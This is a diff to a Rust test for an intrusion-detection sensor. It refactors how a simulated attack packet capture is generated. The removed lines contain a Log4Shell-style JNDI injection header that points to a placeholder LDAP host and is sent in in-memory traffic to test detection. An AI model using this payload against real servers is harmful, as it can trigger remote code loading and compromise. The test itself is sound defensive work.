@@ -8,13 +8,12 @@ use std::path::{Path, PathBuf};
 use std::sync::atomic::{AtomicBool, AtomicU32, Ordering};
 use std::time::Duration;
 
-use common::live::{Net, Sensor, TAP, is_ipv4_fragment, write_capture};
+use common::live::{Net, Sensor, TAP, attacks, is_ipv4_fragment, write_capture};
 use common::{repository, sid};
 use serde_json::{Value, json};
 use tempfile::TempDir;
+use traffic::Example;
 use traffic::example::cluster;
-use traffic::payload::http::{self, Request};
-use traffic::{Example, Random, Side, TcpSession, Track};
 
 /// The rule that is added and removed.
 const EXTRA: &str = "alert tcp any any -> any any (msg:\"a request\"; flow:to_server; \
@@ -92,21 +91,8 @@ impl Site {
     fn attack(&self) -> PathBuf {
         static PORT: AtomicU32 = AtomicU32::new(40_000);
         let port = u16::try_from(PORT.fetch_add(1, Ordering::Relaxed)).expect("a port");
-        let path = traffic::Path::new(
-            (cluster::outside::ATTACKER, port).into(),
-            cluster::FRONTEND_1.at(8080),
-        );
-        let fields = [("X-Api-Version", "${jndi:ldap://203.0.113.66:1389/a}")];
-        let request = Request::get("shop.example", "/").fields(&fields).to_bytes();
-        let mut session = TcpSession::new(path, &mut Random::new(u64::from(port)));
-        let mut track = Track::new(0, 1);
-        session.open(&mut track).expect("in memory");
-        session.send(Side::Client, &request, &mut track).expect("in memory");
-        let answer = http::response("404 Not Found", "text/plain", b"nothing here\n");
-        session.send(Side::Server, &answer, &mut track).expect("in memory");
-        session.close(Side::Client, &mut track).expect("in memory");
         let capture = self.path("attack.pcap");
-        write_capture(&capture, &track.into_packets());
+        write_capture(&capture, &attacks(port..port + 1, cluster::FRONTEND_1.at(8080)));
         capture
     }
 }
